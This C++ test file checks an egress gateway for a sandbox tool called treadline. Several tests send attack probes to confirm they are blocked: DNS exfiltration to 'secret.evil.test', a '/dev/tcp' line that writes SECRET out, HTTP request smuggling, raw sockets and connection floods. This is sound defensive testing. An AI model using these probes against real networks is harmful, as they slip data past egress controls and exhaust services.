// Real clients through the egress gateway, with no proxy variable and as an ordinary user, and what is stopped there. The
// servers outside write down what reaches them.
#include <catch2/catch_test_macros.hpp>
#include <catch2/generators/catch_generators.hpp>

#include "tests/e2e/egress_world.h"

using namespace treadline::test;

TEST_CASE("curl, python, node and git reach what the profile names, by HTTP and HTTPS, with namespaces and without", "[e2e][egress][degraded]") {
    EgressWorld world;
    world.degraded = GENERATE(false, true);
    CAPTURE(world.degraded);
    const Finished made = world.outside("git init -q --bare %www/repo.git && git init -q seed && cd seed && git config user.email t@t.test && "
                                        "git config user.name t && echo file > file && git add . && git commit -qm one && "
                                        "git push -q %www/repo.git HEAD:refs/heads/main && git -C %www/repo.git symbolic-ref HEAD refs/heads/main && "
                                        "git -C %www/repo.git update-server-info && rm -rf ../seed");
    INFO(made.err);
    REQUIRE(made.status == 0);
    const Gated gated = world.run(web, "curl -sS http://web.test:%http/ && "
                                       "curl -sS --cacert %ca https://web.test:%https/ && "
                                       "SSL_CERT_FILE=%ca python3 -c 'import urllib.request as r; print(r.urlopen(\"https://web.test:%https/\").read())' && "
                                       "NODE_EXTRA_CA_CERTS=%ca node -e 'fetch(\"https://web.test:%https/\").then(r => r.text()).then(t => console.log(\"node\", t))' && "
                                       "GIT_SSL_CAINFO=%ca git clone -q https://web.test:%https/repo.git /tmp/clone && cat /tmp/clone/file");
    INFO(gated.err);
    INFO(gated.violations.dump(1));
    CHECK(gated.status == 0);
    CHECK(gated.out == "hello\nhello\nb'hello\\n'\nnode hello\n\nfile\n");
    CHECK(gated.egress() == 0);
    CHECK(contains(world.observed(), "tls web.test"));
}

TEST_CASE("HTTP is relayed whole: bodies, chunks, HEAD, many requests on a connection", "[e2e][egress]") {
    const EgressWorld world;
    const Gated gated = world.run(web, "head -c 300000 /dev/zero > big; U=http://web.test:%http; "
                                       "curl -sS --data-binary @big $U/; curl -sS -H 'Transfer-Encoding: chunked' --data-binary @big $U/; "
                                       "curl -sS -H 'Expect: 100-continue' -d x $U/; curl -sS $U/slow; echo; "
                                       "curl -sSI $U/index.html | head -n 1; curl -sS $U/ $U/ $U/; curl -sS -o /dev/null -w '%{http_code}\\n' $U/missing");
    INFO(gated.err);
    CHECK(gated.out == "got 300000\ngot 300000\ngot 1\none two\nHTTP/1.1 200 OK\r\nhello\nhello\nhello\n404\n");
    CHECK(gated.egress() == 0);
}

TEST_CASE("a name no rule names has no address, whoever is asked, and no lookup goes out", "[e2e][egress]") {
    const EgressWorld world;
    const Gated gated = world.run(web, "getent hosts web.test | wc -l; getent hosts evil.test; curl -sS http://c2VjcmV0.web.test/; "
                                       "python3 - <<'P'\n"
                                       "import socket, struct\n"
                                       "q = struct.pack('>6H', 7, 256, 1, 0, 0, 0) + b'\\x06secret\\x04evil\\x04test\\0' + struct.pack('>2H', 16, 1)\n"
                                       "for to in ('8.8.8.8', '192.0.2.53', '127.0.0.53'):\n"
                                       "    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5); s.connect((to, 53)); s.send(q)\n"
                                       "    print(to, s.recv(512)[3] & 15)\n"
                                       "s = socket.create_connection(('8.8.8.8', 53)); s.sendall(struct.pack('>H', len(q)) + q)\n"
                                       "print('tcp', s.recv(512)[5] & 15)\n"
                                       "P");
    INFO(gated.err);
    CHECK(gated.out == "1\n8.8.8.8 3\n192.0.2.53 3\n127.0.0.53 3\ntcp 3\n");
    CHECK(gated.about("evil.test").size() == 1);
    CHECK(gated.about("secret.evil.test").size() == 1);
    REQUIRE(gated.about("c2vjcmv0.web.test").size() == 1);
    CHECK(gated.about("c2vjcmv0.web.test")[0].at("rule") == "c2vjcmv0.web.test:443");
    CHECK(gated.egress() == 3);
    CHECK(world.observed().empty());
}

TEST_CASE("an address is reached only by a rule that names it, with its port", "[e2e][egress]") {
    const EgressWorld world;
    REQUIRE_CAPABILITY(world.has_own_address(), "a network address besides the loopback's");
    const std::string attack = "curl -sS -m 5 http://%own:%http/";
    REQUIRE(world.outside(attack).out == "hello\n");
    REQUIRE_FALSE(world.observed().empty());
    const Gated refused = world.run({"web.test:%http", "%own:1"}, attack);
    CHECK(refused.out.find("denied by treadline") != std::string::npos);
    const auto about = refused.about(world.filled("%own:%http"));
    REQUIRE(about.size() == 1);
    CHECK(about[0].at("rule") == world.filled("%own:%http"));
    CHECK(about[0].at("process").at("exe").get<std::string>().find("curl") != std::string::npos);
    CHECK(refused.egress() == 1);
    CHECK(world.observed().empty());
    CHECK(world.run({"%own:%http"}, attack).out == "hello\n");
}

TEST_CASE("TLS that asks for another name, or for none, reaches nobody", "[e2e][egress]") {
    const EgressWorld world;
    const std::string ask = "echo | timeout 10 openssl s_client -connect web.test:%https ";
    const std::string certificates = " 2> /dev/null | grep -c 'BEGIN CERTIFICATE'"; // its status depends on who closes first
    REQUIRE(world.outside("echo | timeout 10 openssl s_client -connect 127.0.0.1:%https -servername other.test" + certificates).out == "1\n");
    REQUIRE(contains(world.observed(), "tls other.test"));
    std::vector<std::string> rules = web;
    rules.emplace_back("other.test:%https"); // allowed by itself, but not what was looked up
    const Gated named = world.run(rules, ask + "-servername other.test 2>&1 | grep -o 'access denied' | head -n 1");
    CHECK(named.out == "access denied\n");
    CHECK(named.about(world.filled("web.test:%https")).size() == 1);
    const Gated none = world.run(rules, ask + "-noservername 2>&1 | grep -o 'access denied' | head -n 1");
    CHECK(none.out == "access denied\n");
    REQUIRE(none.about(world.filled("web.test:%https")).size() == 1);
    CHECK(none.about(world.filled("web.test:%https"))[0].at("rule") == world.filled("web.test:%https/tcp"));
    CHECK(world.observed().empty());
    CHECK(world.run(rules, ask + "-servername web.test" + certificates).out == "1\n");
}

TEST_CASE("HTTP for another host ends the connection, also behind an allowed request", "[e2e][egress]") {
    const EgressWorld world;
    REQUIRE(world.outside("curl -sS -H 'Host: other.test' http://127.0.0.1:%http/").out == "hello\n");
    REQUIRE(contains(world.observed(), "other.test"));
    std::vector<std::string> rules = web;
    rules.emplace_back("other.test:%http");
    const Gated front = world.run(rules, "curl -sS -o /dev/null -w '%{http_code}' -H 'Host: other.test' http://web.test:%http/");
    CHECK(front.out == "403");
    CHECK(front.egress() == 1);
    CHECK(world.observed().empty());
    const Gated smuggled = world.run(rules, "printf 'GET /first HTTP/1.1\\r\\nHost: web.test:%http\\r\\n\\r\\nGET /second HTTP/1.1\\r\\nHost: other.test\\r\\n\\r\\n' > in; "
                                            "printf 'POST /third HTTP/1.1\\r\\nHost: web.test:%http\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET /fourth HTTP/1.1\\r\\nHost: other.test\\r\\n\\r\\n' > in2; "
                                            "for f in in in2; do timeout 10 bash -c 'exec 3<>/dev/tcp/web.test/%http; cat '$f' >&3; cat <&3' | grep -c 'treadline'; done");
    INFO(smuggled.err);
    const auto seen = world.observed();
    CHECK(contains(seen, "/first"));
    CHECK_FALSE(contains(seen, "/second"));
    CHECK_FALSE(contains(seen, "/third"));
    CHECK_FALSE(contains(seen, "/fourth"));
    CHECK(smuggled.egress() >= 1);
    const Gated upgrade = world.run(rules, "curl -sS -m 5 -o /dev/null -w '%{http_code}' -H 'Connection: Upgrade' -H 'Upgrade: x' http://web.test:%http/");
    CHECK(upgrade.out == "403");
    CHECK_FALSE(contains(world.observed(), "http GET"));
}

TEST_CASE("a name that leads to a private address, the loopback or this machine is refused", "[e2e][egress]") {
    const EgressWorld world;
    const Gated gated = world.run({"evil.test:%http", "private.test:%http", "mixed.test:%http", "own.test:%http"},
                                  "for n in evil private mixed own; do curl -sS -m 5 -o /dev/null -w '%{http_code} ' http://$n.test:%http/; done");
    INFO(gated.err);
    CHECK(gated.out == "403 403 403 403 ");
    CHECK(gated.egress() == 4);
    REQUIRE(gated.about(world.filled("private.test:%http")).size() == 1);
    CHECK(gated.about(world.filled("private.test:%http"))[0].at("rule") == world.filled("10.1.2.3:%http"));
    CHECK(world.observed().empty());
    CHECK(world.run({"evil.test:%http", "127.0.0.1:%http"}, "curl -sS http://evil.test:%http/").out == "hello\n");
}

TEST_CASE("another protocol goes through only where the rule says tcp", "[e2e][egress]") {
    const EgressWorld world;
    const std::string talk = "timeout 20 bash -c 'exec 3<>/dev/tcp/web.test/%tcp; echo SECRET >&3; head -n 2 <&3'";
    const Gated refused = world.run({"web.test:%tcp", "127.0.0.1:%tcp"}, talk);
    CHECK(refused.out.empty());
    REQUIRE(refused.about(world.filled("web.test:%tcp")).size() == 1);
    CHECK(refused.about(world.filled("web.test:%tcp"))[0].at("rule") == world.filled("web.test:%tcp/tcp"));
    CHECK(world.observed().empty());
    CHECK(world.run({"web.test:%tcp/tcp", "127.0.0.1:%tcp"}, talk).out == "hello\nSECRET\n");
}

TEST_CASE("what is not TCP has no way out: UDP, ICMP, raw and packet sockets", "[e2e][egress]") {
    const EgressWorld world;
    const std::string send = "python3 -c 'import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b\"SECRET\", (\"%own\", %udp))'";
    REQUIRE_CAPABILITY(world.has_own_address(), "a network address besides the loopback's");
    REQUIRE(world.outside(send + "; sleep 0.2").status == 0);
    REQUIRE(contains(world.observed(), "udp"));
    const Gated gated = world.run({"%own:%udp", "web.test:%http"}, send + " 2>&1 | tail -n 1");
    CHECK(gated.out.find("Operation not permitted") != std::string::npos);
    CHECK(gated.about(world.filled("%own:%udp")).size() == 1);
    const Gated sockets = world.run({"%own:%udp"}, "python3 - <<'P'\n"
                                                   "import socket\n"
                                                   "for f, t, p in ((2, 3, 1), (2, 2, 1), (17, 3, 0), (10, 3, 58), (40, 1, 0), (16, 3, 12)):\n"
                                                   "    try:\n"
                                                   "        s = socket.socket(f, t, p)\n"
                                                   "        s.sendto(b'\\x08\\0\\xf7\\xff\\0\\0\\0\\0', ('%own', 0))\n"
                                                   "        print('sent', f, t, p)\n"
                                                   "    except OSError as e:\n"
                                                   "        pass\n"
                                                   "P");
    CHECK(sockets.out.empty());
    CHECK(world.observed().empty());
}

TEST_CASE("inside, the loopback is the sandbox's own, and the gateway's ports are nobody's", "[e2e][egress]") {
    const EgressWorld world;
    REQUIRE(world.outside("curl -sS http://127.0.0.1:%http/").out == "hello\n");
    (void)world.observed();
    const Gated gated = world.run(web, "curl -sS -o /dev/null http://127.0.0.1:%http/; echo $?; curl -sS -m 5 -o /dev/null http://198.18.0.3:1/; "
                                       "python3 -c 'import socket; socket.create_server((\"\", 1))' 2>&1 | tail -n 1");
    INFO(gated.err);
    CHECK(gated.out.starts_with("7\n")); // refused, by nobody there
    CHECK(gated.out.find("Permission denied") != std::string::npos);
    CHECK(gated.about("198.18.0.3:1").size() == 1);
    CHECK(world.observed().empty());
}

TEST_CASE("connections that say nothing, or never end a header, keep nobody from the gateway", "[e2e][egress]") {
    const EgressWorld world;
    const Gated gated = world.run(web, "python3 - <<'P'\n"
                                       "import socket, urllib.request\n"
                                       "held = [socket.create_connection(('web.test', %http)) for _ in range(300)]\n"
                                       "for one in held[100:]: one.sendall(b'GET / HTTP/1.1\\r\\nX: ')\n"
                                       "for one in held[200:]: one.sendall(b'x' * 8000)\n"
                                       "print(urllib.request.urlopen('http://web.test:%http/').read())\n"
                                       "last = held[-1]\n"
                                       "for _ in range(8):\n"
                                       "    last.sendall(b'x' * 8000)\n"
                                       "print(b'403' in last.recv(4096))\n"
                                       "P");
    INFO(gated.err);
    CHECK(gated.out == "b'hello\\n'\nTrue\n");
    CHECK(gated.about(world.filled("web.test:%http")).size() == 1); // the header without end
    CHECK(world.observed().size() == 2);                             // one connection, one request
}

TEST_CASE("10 000 connections that hold back what they have to say take the gateway bounded memory, and others go on", "[e2e][egress]") {
    const EgressWorld world;
    const Finished helper = world.outside("cat > measure <<'E'\n"
                                          "while [ ! -e first ]; do sleep 0.05; done\n"
                                          "for p in /proc/[0-9]*; do\n"
                                          "  [ \"$(cat $p/comm 2> /dev/null)\" = treadline-gate ] || continue\n"
                                          "  parent=$(sed -n 's/^PPid:[[:space:]]*//p' $p/status)\n"
                                          "  tr '\\0' ' ' < /proc/$parent/cmdline | grep -q \"$PWD/first\" && sed -n 's/^VmHWM:[[:space:]]*\\([0-9]*\\) kB/\\1/p' $p/status > memory\n"
                                          "done\n"
                                          "touch second\n"
                                          "E\n"
                                          "(sh measure > /dev/null 2>&1 &)");
    REQUIRE(helper.status == 0);
    const Gated gated = world.run(web, "python3 - " + world.loop.project() + "/first <<'P'\n"
                                       "import os, resource, socket, sys, time, urllib.request\n"
                                       "most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]; resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))\n"
                                       "held = []\n"
                                       "for i in range(min(10000, most - 64)):\n"
                                       "    held.append(socket.create_connection(('web.test', %http)))\n"
                                       "    if i % 2: held[-1].sendall(b'GET / HTTP/1.1\\r\\nX: ' + b'x' * 8000)\n"
                                       "open(sys.argv[1], 'w').close()\n"
                                       "while not os.path.exists('second'): time.sleep(0.05)\n"
                                       "for one in held[:100]: one.close()\n"
                                       "print(urllib.request.urlopen('http://web.test:%http/').read())\n"
                                       "P");
    INFO(gated.err);
    CHECK(gated.out == "b'hello\\n'\n");
    const std::string memory = slurp(world.loop.project() + "/memory");
    CAPTURE(memory);
    REQUIRE_FALSE(memory.empty());
    CHECK(std::stol(memory) < 256 * 1024);
}

TEST_CASE("when the gateway dies, connections are reset, lookups fail at once, nothing else leads out, and the report says so", "[e2e][egress]") {
    const EgressWorld world;
    world.kill_gateway_later();
    const Gated gated = world.run({"web.test:%http", "web.test:%tcp/tcp", "127.0.0.1:%http", "127.0.0.1:%tcp", "host:%udp"},
                                  "python3 - " + world.loop.project() + "/first <<'P'\n"
                                  "import os, socket, sys, time\n"
                                  "open_one = socket.create_connection(('web.test', %tcp)); print(open_one.recv(6))\n"
                                  "slow = socket.create_connection(('web.test', %http)); slow.sendall(b'GET /endless HTTP/1.1\\r\\nHost: web.test:%http\\r\\n\\r\\n'); slow.recv(20)\n"
                                  "open(sys.argv[1], 'w').close()\n"
                                  "while not os.path.exists('second'): time.sleep(0.05)\n"
                                  "def error(what, *args):\n"
                                  "    try: what(*args); return 'no error'\n"
                                  "    except OSError as e: return type(e).__name__\n"
                                  "def drain():\n"
                                  "    while slow.recv(65536): pass\n"
                                  "print('open:', error(open_one.recv, 1)); print('slow:', error(drain))\n"
                                  "start = time.monotonic(); print('lookup:', error(socket.getaddrinfo, 'web.test', 80)); print('at once:', time.monotonic() - start < 2)\n"
                                  "for to in ('198.18.1.0', '127.0.0.1', '%own', '8.8.8.8', 'fd74:7265:6164::1:0:1'):\n"
                                  "    print(error(socket.create_connection, (to, %udp), 5))\n"
                                  "P\n", "  listen: [1]\n");
    INFO(gated.err);
    CHECK(gated.out == "b'hello\\n'\nopen: ConnectionResetError\nslow: ConnectionResetError\nlookup: gaierror\nat once: True\n" +
                           std::string("ConnectionRefusedError\nConnectionRefusedError\nConnectionRefusedError\nConnectionRefusedError\nConnectionRefusedError\n"));
    CHECK(gated.status == 0);
    REQUIRE(gated.about("(everything)").size() == 1);
    CHECK(gated.egress() == 1);
    const auto reason = gated.about("(everything)")[0].at("reason").get<std::string>();
    CHECK(reason.find("the egress gateway was killed by signal 9") != std::string::npos);
    CHECK(reason.find("Run the command again") != std::string::npos);
    CHECK_FALSE(gated.about("(everything)")[0].at("expected").get<bool>()); // so --strict fails
}

TEST_CASE("a gateway that cannot be confined is a refusal to start that says why", "[e2e][egress]") {
    const Loop loop;
    loop.write(".treadline/profile.yaml", "treadline: 1\nname: t\ninclude: [base, coreutils]\nfiles:\n  ${project}/**: rwc\nnetwork: {connect: [\"a.test:443\"]}\n");
    const Finished refused = loop.shell(std::string(REFUSING) + " landlock treadline enforce --allow-degraded -- touch ran");
    INFO(refused.err);
    CHECK(refused.status == 126);
    CHECK(refused.err.find("cannot give up the user's files") != std::string::npos);
    CHECK(refused.err.find("--network host") != std::string::npos);
    CHECK(loop.shell("test ! -e ran").status == 0);
}
